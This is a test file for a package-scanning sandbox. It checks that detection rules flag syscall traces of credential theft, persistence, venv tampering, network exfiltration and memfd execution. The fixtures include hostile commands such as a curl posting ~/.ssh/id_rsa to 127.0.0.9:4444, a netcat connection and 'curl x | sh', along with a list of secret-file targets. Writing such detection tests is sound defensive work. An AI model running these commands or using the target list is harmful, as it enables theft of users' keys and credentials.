import { describe, expect, test } from "bun:test";
import { compileRules } from "../../src/match/matcher.ts";
import type { Finding } from "../../src/core/finding.ts";
import { loadBuiltinRulePacks } from "../../src/rules/builtin.ts";
import {
  HOME, PID, ROOTS, type Scenario, VENV, bind, builtinRules, change, connect, connectUnix, denied, exec, link, mkdir, open, rename, scan, stat,
} from "../match/pipeline.ts";
import { CONDITIONALLY_DENIED, DENIED_SYSCALLS } from "../../src/sandbox/seccomp.ts";

interface Case {
  name: string;
  lines: string[];
  scenario?: Scenario;
}

interface RuleCases {
  positive: Case[];
  negative: Case[];
}

const WRITE = "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC";
const SITE = `${VENV}/lib/python3.11/site-packages`;
const CREATE = "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC";
const pip = { package: undefined, phase: "fetch" } as const;

const CASES: Record<string, RuleCases> = {
  ssh: {
    positive: [
      { name: "reads a private key", lines: [open("~/.ssh/id_rsa")] },
      { name: "probes a key that does not exist", lines: [open("~/.ssh/id_ed25519", { errno: "ENOENT" })] },
      { name: "lists the directory", lines: [open("~/.ssh", { flags: "O_RDONLY|O_DIRECTORY" })] },
      { name: "reads through a symlink", lines: [open("/tmp/innocent", { resolved: "~/.ssh/id_rsa" })] },
      { name: "asks for the key even if the fd resolves elsewhere", lines: [open("~/.ssh/id_rsa", { resolved: "/decoy-store/id_rsa" })] },
      { name: "steals it in pip's own process too", lines: [open("~/.ssh/id_rsa")], scenario: pip },
    ],
    negative: [
      { name: "stats the home directory", lines: [stat("~")] },
      { name: "opens a look-alike name", lines: [open("~/.sshrc-notes"), open("/work/pkg/.ssh/id_rsa")] },
    ],
  },
  "git-credentials": {
    positive: [{ name: "reads the store", lines: [open("~/.git-credentials"), open("~/.config/git/credentials")] }],
    negative: [{ name: "git reads its config", lines: [open("~/.gitconfig"), open("~/.config/git/config")] }],
  },
  aws: {
    positive: [{ name: "reads credentials", lines: [open("~/.aws/credentials")] }],
    negative: [{ name: "similar name", lines: [open("~/.awsome/config")] }],
  },
  gcloud: {
    positive: [{ name: "reads ADC", lines: [open("~/.config/gcloud/application_default_credentials.json")] }],
    negative: [{ name: "stats ~/.config", lines: [stat("~/.config"), open("~/.config/gcloud-tools.txt")] }],
  },
  azure: {
    positive: [{ name: "reads tokens", lines: [open("~/.azure/msal_token_cache.json")] }],
    negative: [{ name: "unrelated", lines: [open("~/.config/azure-notes")] }],
  },
  npm: {
    positive: [{ name: "reads npmrc", lines: [open("~/.npmrc")] }],
    negative: [{ name: "project npmrc", lines: [open("/work/pkg/.npmrc")] }],
  },
  pypirc: {
    positive: [{ name: "reads pypirc", lines: [stat("~/.pypirc", "ENOENT")] }],
    negative: [{ name: "project pypirc", lines: [open("/work/pkg/.pypirc")] }],
  },
  netrc: {
    positive: [
      { name: "import code reads it", lines: [open("~/.netrc")] },
      { name: "an sdist build in the fetch phase reads it", lines: [open("~/.netrc")], scenario: { phase: "fetch", package: "evilpkg" } },
    ],
    negative: [{ name: "pip reads it for index credentials", lines: [open("~/.netrc")], scenario: pip }],
  },
  kube: {
    positive: [{ name: "reads kubeconfig", lines: [open("~/.kube/config")] }],
    negative: [{ name: "a cache dir", lines: [open("~/.cache/kube-helper/x")] }],
  },
  "docker-config": {
    positive: [{ name: "reads config.json", lines: [open("~/.docker/config.json")] }],
    negative: [{ name: "buildx state", lines: [open("~/.docker/buildx/current")] }],
  },
  gnupg: {
    positive: [{ name: "reads a private key", lines: [open("~/.gnupg/private-keys-v1.d/AB.key")] }],
    negative: [{ name: "system keyrings", lines: [open("/usr/share/keyrings/debian-archive-keyring.gpg")] }],
  },
  "dev-tokens": {
    positive: [{ name: "GitHub CLI token", lines: [open("~/.config/gh/hosts.yml")] }, { name: "vault", lines: [open("~/.vault-token")] }],
    negative: [{ name: "gh settings", lines: [open("~/.config/gh/config.yml")] }],
  },
  "browser-profile": {
    positive: [
      { name: "firefox logins", lines: [open("~/.mozilla/firefox/x.default/logins.json")] },
      { name: "chrome cookies", lines: [open("~/.config/google-chrome/Default/Cookies")] },
      { name: "brave", lines: [open("~/.config/BraveSoftware/Brave-Browser/Default/Login Data")] },
    ],
    negative: [{ name: "system chromium", lines: [open("/usr/lib/chromium/chrome")] }],
  },
  "crypto-wallet": {
    positive: [
      { name: "electrum", lines: [open("~/.electrum/wallets/default_wallet")] },
      { name: "bitcoin", lines: [open("~/.bitcoin/wallet.dat")] },
      { name: "exodus", lines: [open("~/.config/Exodus/exodus.wallet/seed.seco")] },
    ],
    negative: [{ name: "docs", lines: [open("/usr/share/doc/bitcoin/README")] }],
  },
  "shell-history": {
    positive: [{ name: "reads bash history", lines: [open("~/.bash_history")] }],
    negative: [{ name: "reads bashrc", lines: [open("~/.bashrc")] }],
  },
  "proc-probe": {
    positive: [
      { name: "init's environment", lines: [open("/proc/1/environ", { errno: "EACCES" })] },
      { name: "init's cgroup", lines: [open("/proc/1/cgroup")] },
      { name: "own environment through /proc/self", lines: [open("/proc/self/environ", { resolved: "/proc/4242/environ" })] },
      { name: "failed /proc/self/environ", lines: [stat("/proc/self/environ", "ENOENT")] },
    ],
    negative: [
      { name: "python's own /proc reads", lines: [`100 readlink("/proc/self/exe", "/usr/bin/python3.11", 4096) = 19`, open("/proc/self/maps", { resolved: "/proc/4242/maps" }), open("/proc/cpuinfo"), open("/proc/10/stat")] },
      { name: "cpu count", lines: [open("/sys/devices/system/cpu/online")] },
    ],
  },
  shadow: {
    positive: [{ name: "reads /etc/shadow", lines: [open("/etc/shadow", { errno: "EACCES" })] }, { name: "gshadow", lines: [stat("/etc/gshadow")] }],
    negative: [{ name: "getpass reads /etc/passwd", lines: [open("/etc/passwd")] }],
  },
  persistence: {
    positive: [
      { name: "appends to .bashrc", lines: [open("~/.bashrc", { flags: WRITE })] },
      { name: "renames into autostart", lines: [rename("/tmp/x", "~/.config/autostart/evil.desktop")] },
      { name: "creates a cron job", lines: [open("/etc/cron.d/evil", { flags: "O_WRONLY|O_CREAT|O_TRUNC", errno: "EACCES" })] },
      { name: "creates a systemd user unit dir", lines: [mkdir("~/.config/systemd/user")] },
      { name: "touches .profile through an fd", lines: [`100 utimensat(3<${HOME}/.profile>, NULL, NULL, 0) = 0`] },
      { name: "drops a .pth in the user site", lines: [open("~/.local/lib/python3.11/site-packages/evil.pth", { flags: "O_WRONLY|O_CREAT|O_TRUNC" })] },
      { name: "rewrites pip's config", lines: [open("~/.config/pip/pip.conf", { flags: "O_WRONLY|O_CREAT|O_TRUNC" })] },
      { name: "writes .vimrc", lines: [open("~/.vimrc", { flags: CREATE })] },
      { name: "writes neovim's init.lua", lines: [open("~/.config/nvim/init.lua", { flags: CREATE })] },
      { name: "drops a VS Code user task", lines: [open("~/.config/Code/User/tasks.json", { flags: CREATE })] },
      { name: "adds an SSH key to authorized_keys", lines: [open("~/.ssh/authorized_keys", { flags: WRITE })] },
      { name: "shadows pip on PATH", lines: [open("~/.local/bin/pip", { flags: CREATE }), change("chmod", "~/.local/bin/pip")] },
      { name: "plants a desktop autostart entry", lines: [open("~/.config/autostart/x.desktop", { flags: CREATE })] },
      { name: "symlinks bash aliases to its payload", lines: [link("symlink", "/tmp/payload", "~/.bash_aliases")] },
      { name: "hard-links .bashrc to write it under another name", lines: [link("link", "~/.bashrc", "/tmp/x")] },
      { name: "deletes .zshrc", lines: [change("unlink", "~/.zshrc")] },
      { name: "truncates the git config", lines: [change("truncate", "~/.gitconfig")] },
      { name: "writes an IPython start-up file", lines: [open("~/.ipython/profile_default/startup/00-x.py", { flags: CREATE })] },
      { name: "writes docker's config", lines: [open("~/.docker/config.json", { flags: CREATE })] },
      { name: "shadows a desktop launcher", lines: [open("~/.local/share/applications/firefox.desktop", { flags: CREATE })] },
      { name: "adds a Mercurial hook", lines: [open("~/.hgrc", { flags: WRITE })] },
      { name: "pip itself writes .bashrc", lines: [open("~/.bashrc", { flags: WRITE })], scenario: pip },
    ],
    negative: [
      { name: "reads .bashrc", lines: [open("~/.bashrc")] },
      { name: "reads ~/.gitconfig", lines: [open("~/.gitconfig"), stat("~/.vimrc", "ENOENT")] },
      { name: "writes its own cache", lines: [mkdir("~/.cache/evilpkg"), open("~/.cache/evilpkg/data.json", { flags: "O_WRONLY|O_CREAT|O_TRUNC" })] },
      { name: "writes to temp and the venv", lines: [open("/tmp/build/x.o", { flags: WRITE }), open("/work/venv/lib/python3.11/site-packages/x.py", { flags: WRITE })] },
      { name: "python stats the user site", lines: [stat("~/.local/lib/python3.11/site-packages", "ENOENT")] },
      { name: "writes a look-alike name", lines: [open("~/.vimrc.bak/x", { flags: CREATE }), open("~/.config/nvim-notes.txt", { flags: CREATE })] },
    ],
  },
  "persistence-hooks": {
    positive: [
      { name: "writes a git hook into a project", lines: [open("~/project/.git/hooks/pre-commit", { flags: CREATE })] },
      { name: "renames a hook into place", lines: [rename("/tmp/x", "/srv/repo/.git/hooks/post-checkout")] },
      { name: "rewrites a repository's git config", lines: [open("~/project/.git/config", { flags: WRITE })] },
      { name: "drops a .pth into the interpreter's site-packages", lines: [open("~/.pyenv/versions/3.11.7/lib/python3.11/site-packages/x.pth", { flags: CREATE, errno: "EROFS" })] },
      { name: "drops sitecustomize.py into the system's Python", lines: [open("/usr/lib/python3/dist-packages/sitecustomize.py", { flags: CREATE, errno: "EROFS" })] },
      { name: "pip itself writes a hook", lines: [open("~/project/.git/hooks/pre-commit", { flags: CREATE })], scenario: pip },
    ],
    negative: [
      { name: "git reads a repository's config", lines: [open("~/project/.git/config"), stat("~/project/.git/hooks/pre-commit", "ENOENT")] },
      { name: "pip installs a .pth into the scan's venv", lines: [open("/work/venv/lib/python3.11/site-packages/x.pth", { flags: CREATE })], scenario: { package: undefined, phase: "install" } },
      { name: "pip fills a build environment", lines: [open("/tmp/pip-build-env-1/overlay/lib/python3.11/site-packages/distutils-precedence.pth", { flags: CREATE })], scenario: pip },
      { name: "a build initialises a scratch repository in temp", lines: [open("/tmp/build/.git/config", { flags: CREATE })] },
      { name: "writes a file named like a hook elsewhere", lines: [open("~/project/hooks/pre-commit", { flags: CREATE }), open("~/.pyenv/versions/3.11.7/lib/python3.11/site-packages/x/y.pth", { flags: CREATE })] },
    ],
  },
  "home-write": {
    positive: [
      { name: "writes a dotfile of its own choosing", lines: [open("~/.somethingelse", { flags: CREATE })] },
      { name: "creates a folder in the home", lines: [mkdir("~/notes")] },
      { name: "renames out of its cache into the home", lines: [rename("~/.cache/evilpkg/x", "~/.x")] },
      { name: "deletes a file in the home", lines: [change("unlink", "~/.ssh/known_hosts")] },
      { name: "writes the top of ~/.local", lines: [open("~/.local/x", { flags: CREATE })] },
    ],
    negative: [
      { name: "writes its own cache, config and data", lines: [
        mkdir("~/.cache"), mkdir("~/.cache/evilpkg"), open("~/.cache/evilpkg/x", { flags: CREATE }),
        mkdir("~/.config/evilpkg"), open("~/.config/evilpkg/settings.json", { flags: CREATE }),
        mkdir("~/.local/share"), open("~/.local/share/evilpkg/db", { flags: "O_RDWR|O_CREAT|O_CLOEXEC" }),
        rename("~/.cache/evilpkg/tmp", "~/.cache/evilpkg/x"),
      ] },
      { name: "reads and stats the home", lines: [open("~/.gitconfig"), stat("~/.somethingelse", "ENOENT"), open("~", { flags: "O_RDONLY|O_DIRECTORY" })] },
      { name: "makedirs touches the home itself", lines: [`100 mkdir("${HOME}", 0777) = -1 EEXIST (File exists)`] },
      { name: "pip's own writes", lines: [open("~/.cache/pip/selfcheck/x.json", { flags: CREATE }), open("~/.pip-notes", { flags: CREATE })], scenario: pip },
      { name: "writes in the run's work dir and the interpreter's bytecode cache", lines: [
        open("/work/venv/lib/python3.11/site-packages/pkg/__pycache__/x.pyc", { flags: CREATE }),
        open("~/.pyenv/versions/3.11.7/lib/python3.11/__pycache__/x.cpython-311.pyc.123", { flags: "O_WRONLY|O_CREAT|O_EXCL", errno: "EROFS" }),
      ] },
    ],
  },
  "venv-tampering": {
    positive: [
      { name: "drops sitecustomize.py, failing on the read-only venv", lines: [open(`${SITE}/sitecustomize.py`, { flags: "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC", errno: "EROFS" })] },
      { name: "patches another package", lines: [open(`${SITE}/victim/__init__.py`, { flags: "O_WRONLY|O_APPEND|O_CLOEXEC" })] },
      { name: "removes and chmods a script", lines: [`100 unlink("${VENV}/bin/tool") = -1 EROFS (Read-only file system)`, `100 fchmodat(AT_FDCWD</work>, "${VENV}/bin/tool", 0755) = -1 EROFS (Read-only file system)`] },
      { name: "writes a .pyc of another package directly", lines: [open(`${SITE}/victim/__pycache__/__init__.cpython-311.pyc`, { flags: "O_WRONLY|O_CREAT|O_TRUNC", errno: "EROFS" })] },
      { name: "an unattributed process too", lines: [open(`${VENV}/pyvenv.cfg`, { flags: WRITE, errno: "EROFS" })], scenario: { phase: "import", package: undefined } },
    ],
    negative: [
      { name: "imports read the venv", lines: [open(`${SITE}/pkg/__init__.py`), stat(`${VENV}/bin/tool`)] },
      {
        name: "the interpreter's own bytecode cache",
        lines: [
          `100 mkdir("${SITE}/pkg/__pycache__", 0777) = -1 EROFS (Read-only file system)`,
          open(`${SITE}/pkg/__pycache__/mod.cpython-311.pyc.140234567890`, { flags: "O_WRONLY|O_CREAT|O_EXCL|O_CLOEXEC", errno: "EROFS" }),
        ],
      },
      { name: "pip writes the venv in the install phase", lines: [open(`${SITE}/pkg/__init__.py`, { flags: WRITE })], scenario: { phase: "install", package: undefined } },
      { name: "writes to temp", lines: [open("/tmp/pkg-cache/x", { flags: WRITE })] },
    ],
  },
  "venv-tampering-move": {
    positive: [
      { name: "renames a file into a .pth", lines: [rename("/tmp/x", `${SITE}/zz.pth`)] },
      { name: "renames from a bytecode-cache-like name", lines: [rename(`${SITE}/pkg/__pycache__/m.cpython-311.pyc.1234`, `${SITE}/zz.pth`)] },
      { name: "links another package's module away", lines: [`100 linkat(AT_FDCWD</work>, "${SITE}/victim/__init__.py", AT_FDCWD</work>, "/tmp/x", 0) = -1 EROFS (Read-only file system)`] },
    ],
    negative: [
      { name: "renames within temp", lines: [rename("/tmp/x", "/tmp/y")] },
      { name: "pip renames into the venv while installing", lines: [rename("/tmp/pip-unpacked/x.py", `${SITE}/x.py`)], scenario: { phase: "install", package: undefined } },
    ],
  },
  network: {
    positive: [
      { name: "connects to 127.0.0.9:4444", lines: [connect("127.0.0.9", 4444)] },
      { name: "connects over IPv6", lines: [connect("::1", 4444)] },
      { name: "sends a UDP datagram", lines: [connect("8.8.8.8", 53, "sendto")] },
      { name: "from an sdist build during fetch", lines: [connect("10.1.2.3", 443)], scenario: { phase: "fetch", package: "evilpkg" } },
    ],
    negative: [
      { name: "pip's own download connection", lines: [connect("127.0.0.1", 8080)], scenario: pip },
      { name: "nscd lookup over a unix socket", lines: [connectUnix("/var/run/nscd/socket")] },
      { name: "urllib3's IPv6 probe binds ::1 port 0", lines: [bind("::1", 0)] },
    ],
  },
  "container-socket": {
    positive: [{ name: "docker socket", lines: [connectUnix("/var/run/docker.sock")] }],
    negative: [{ name: "nscd", lines: [connectUnix("/var/run/nscd/socket")] }],
  },
  "ssh-agent": {
    positive: [{ name: "agent socket", lines: [connectUnix("/tmp/ssh-XXXXabcd/agent.1234")] }],
    negative: [{ name: "other unix socket", lines: [connectUnix("/tmp/pipcanary-proxy.sock")] }],
  },
  "network-tool": {
    positive: [
      { name: "curl", lines: [exec("/usr/bin/curl", ["curl", "-d", "@/home/tester/.ssh/id_rsa", "http://127.0.0.9:4444"])] },
      { name: "netcat by argv[0]", lines: [exec("/usr/bin/nc.openbsd", ["nc", "127.0.0.9", "4444"])] },
      { name: "a failed PATH lookup still shows intent", lines: [exec("/usr/local/bin/wget", ["wget", "http://x"], "-1 ENOENT (No such file or directory)")] },
    ],
    negative: [
      {
        name: "benign tools",
        lines: [
          exec("/usr/bin/uname", ["uname", "-p"]),
          exec("/sbin/ldconfig", ["/sbin/ldconfig", "-p"]),
          exec("/usr/bin/gcc", ["gcc", "-c", "x.c"]),
          exec("/usr/bin/python3", ["python3", "setup.py", "egg_info"]),
          exec("/usr/bin/lsb_release", ["lsb_release", "-a"]),
          exec("/usr/bin/file", ["file", "-b", "/usr/bin/python3"]),
          exec("/usr/bin/git", ["git", "describe", "--tags"]),
        ],
      },
      { name: "pip's own process", lines: [exec("/usr/bin/curl", ["curl", "--version"])], scenario: pip },
    ],
  },
  "shell-command": {
    positive: [
      { name: "subprocess shell=True", lines: [exec("/bin/sh", ["/bin/sh", "-c", "echo hi"])] },
      { name: "os.system", lines: [exec("/bin/sh", ["sh", "-c", "--", "id"])] },
      { name: "bash -ec", lines: [exec("/usr/bin/bash", ["bash", "-ec", "true"])] },
      { name: "options before -c", lines: [exec("/usr/bin/bash", ["bash", "--norc", "-x", "-c", "id"])] },
    ],
    negative: [
      { name: "running a script", lines: [exec("/bin/sh", ["sh", "./configure"])] },
      { name: "a script that receives -c", lines: [exec("/usr/bin/bash", ["bash", "/root/.pyenv/libexec/pyenv-exec", "python3", "-c", "print(1)"])] },
      { name: "no shell", lines: [exec("/usr/bin/uname", ["uname", "-c", "x"])] },
    ],
  },
  "sandbox-io-uring": {
    positive: [{ name: "io_uring_setup", lines: [denied("io_uring_setup")] }, { name: "in pip's process", lines: [denied("io_uring_enter")], scenario: pip }],
    negative: [{ name: "another denied call", lines: [denied("ptrace")] }],
  },
  "sandbox-namespace": {
    positive: [{ name: "unshare", lines: [denied("unshare")] }, { name: "new mount API", lines: [denied("fsopen")] }],
    negative: [{ name: "reads its mount table", lines: [open("/proc/self/mountinfo")] }],
  },
  "sandbox-untraced-clone": {
    positive: [{ name: "CLONE_UNTRACED or a namespace flag", lines: [denied("clone")] }],
    negative: [{ name: "a fork", lines: [`${PID} clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 2 /* ${PID + 1} in strace's PID NS */`] }],
  },
  "sandbox-process-access": {
    positive: [{ name: "ptrace", lines: [denied("ptrace")] }, { name: "process_vm_readv", lines: [denied("process_vm_readv")] }],
    negative: [{ name: "SIGSYS sent by kill()", lines: [`${PID} --- SIGSYS {si_signo=SIGSYS, si_code=SI_USER, si_pid=7, si_uid=0} ---`] }],
  },
  "process-memory": {
    positive: [{ name: "opens the supervisor's memory", lines: [open("/proc/2/mem", { flags: "O_RDWR|O_CLOEXEC" })] }],
    negative: [{ name: "reads its own memory map", lines: [open("/proc/self/maps"), open("/proc/2/status")] }],
  },
  "sandbox-file-handle": {
    positive: [{ name: "open_by_handle_at", lines: [denied("open_by_handle_at")] }],
    negative: [{ name: "opens by path", lines: [open("/work/pkg/data.bin")] }],
  },
  "sandbox-kernel-interface": {
    positive: [{ name: "keyctl", lines: [denied("keyctl")] }, { name: "bpf", lines: [denied("bpf")] }],
    negative: [{ name: "an x32 call", lines: [denied("1073741863 /* getpid */")] }],
  },
  "sandbox-foreign-abi": {
    positive: [
      { name: "an x32 call", lines: [denied("1073741863 /* getpid */")] },
      { name: "a 32-bit call", lines: [denied("ptrace", "AUDIT_ARCH_I386")] },
    ],
    negative: [{ name: "a native call", lines: [denied("ptrace")] }],
  },
  "memfd-exec": {
    positive: [
      { name: "execve of /proc/self/fd/N", lines: [exec("/proc/self/fd/3", ["/proc/self/fd/3"])] },
      { name: "fexecve of a memfd", lines: [`${PID} execveat(3</memfd:payload>(deleted), "", ["true"], 0x7fd3 /* 0 vars */, AT_EMPTY_PATH) = 0`] },
      { name: "a symlink to a descriptor, to run it by another name", lines: [`${PID} symlink("/proc/self/fd/3", "/tmp/worker") = 0`] },
    ],
    negative: [
      { name: "a program on disk", lines: [exec("/usr/bin/true", ["true"]), open("/proc/self/fd/3")] },
      { name: "a log file linked to stdout", lines: [`${PID} symlink("/dev/stdout", "/tmp/app.log") = 0`] },
      { name: "bwrap makes /dev/stdin before the sandbox starts", lines: [`${PID} symlink("/proc/self/fd/0", "/newroot/dev/stdin") = 0`], scenario: pip },
    ],
  },
  "memfd-loader": {
    positive: [{ name: "ld.so runs a memfd", lines: [exec("/lib64/ld-linux-x86-64.so.2", ["/lib64/ld-linux-x86-64.so.2", "/proc/self/fd/3", "-x"])] }],
    negative: [{ name: "ldd's verify call", lines: [exec("/lib64/ld-linux-x86-64.so.2", ["/lib64/ld-linux-x86-64.so.2", "--verify", "/usr/bin/true"])] }],
  },
};

const ids = (findings: Finding[]): string[] => [...new Set(findings.map((f) => f.ruleId))];

describe("built-in rule packs", () => {
  test("load, use api ^1.0.0 and hold only dynamic rules for now", () => {
    const packs = loadBuiltinRulePacks();
    expect(packs.length).toBeGreaterThanOrEqual(5);
    for (const pack of packs) expect(pack.api).toBe("^1.0.0");
  });

  test("the SSH rule keeps the seed's wording", () => {
    const ssh = builtinRules().find((rule) => rule.id === "ssh");
    expect(ssh?.description).toBe("SSH private key exfiltration.");
    expect(ssh?.explanation).toBe("The package might be trying to steal your Secure Shell private keys.");
    expect(ssh?.severity).toBe("block");
  });

  test("every built-in rule has positive and negative cases here", () => {
    for (const rule of builtinRules()) {
      expect({ rule: rule.id, positive: (CASES[rule.id]?.positive.length ?? 0) > 0, negative: (CASES[rule.id]?.negative.length ?? 0) > 0 })
        .toEqual({ rule: rule.id, positive: true, negative: true });
    }
  });

  test("every call the seccomp filter traps is named by exactly one rule", () => {
    for (const name of [...DENIED_SYSCALLS.keys(), ...CONDITIONALLY_DENIED.keys()]) {
      const rules = ids(scan([denied(name)])).filter((id) => id.startsWith("sandbox-"));
      expect({ name, rules: rules.length }).toEqual({ name, rules: 1 });
    }
  });

  for (const [ruleId, cases] of Object.entries(CASES)) {
    describe(ruleId, () => {
      for (const c of cases.positive) {
        test(`flags: ${c.name}`, () => {
          const findings = scan(c.lines, c.scenario);
          expect(ids(findings)).toContain(ruleId);
        });
      }
      for (const c of cases.negative) {
        test(`passes: ${c.name}`, () => {
          expect(ids(scan(c.lines, c.scenario))).not.toContain(ruleId);
        });
      }
    });
  }

  test("a finding names the package, phase, syscall, path and argv", () => {
    const [finding] = scan([open("~/.ssh/id_rsa")], { phase: "install", package: "evilpkg" });
    expect(finding).toMatchObject({
      ruleId: "ssh",
      severity: "block",
      package: "evilpkg",
      phase: "install",
      syscall: "openat",
      subject: { kind: "access", path: `${HOME}/.ssh/id_rsa` },
      argv: ["python3", "-c", "import evilpkg"],
    });
  });

  test("connection and execution findings carry address and argv", () => {
    expect(scan([connect("127.0.0.9", 4444)])[0]?.subject).toEqual({ kind: "connection", address: "127.0.0.9", port: 4444 });
    const shell = scan([exec("/bin/sh", ["sh", "-c", "curl x | sh"])]);
    expect(shell[0]?.subject).toEqual({ kind: "execution", argv: ["sh", "-c", "curl x | sh"] });
  });

  test("findings do not depend on the order of the rules", () => {
    const lines = Object.values(CASES).flatMap((cases) => [...cases.positive, ...cases.negative].flatMap((c) => c.lines));
    const rules = builtinRules();
    const reference = JSON.stringify(scan(lines, {}, compileRules(rules, { home: HOME, roots: ROOTS })));
    let seed = 7;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    for (let round = 0; round < 5; round++) {
      const shuffled = [...rules].sort(() => random() - 0.5);
      expect(JSON.stringify(scan(lines, {}, compileRules(shuffled, { home: HOME, roots: ROOTS })))).toBe(reference);
    }
    expect(JSON.parse(reference).length).toBeGreaterThan(20);
  });
});
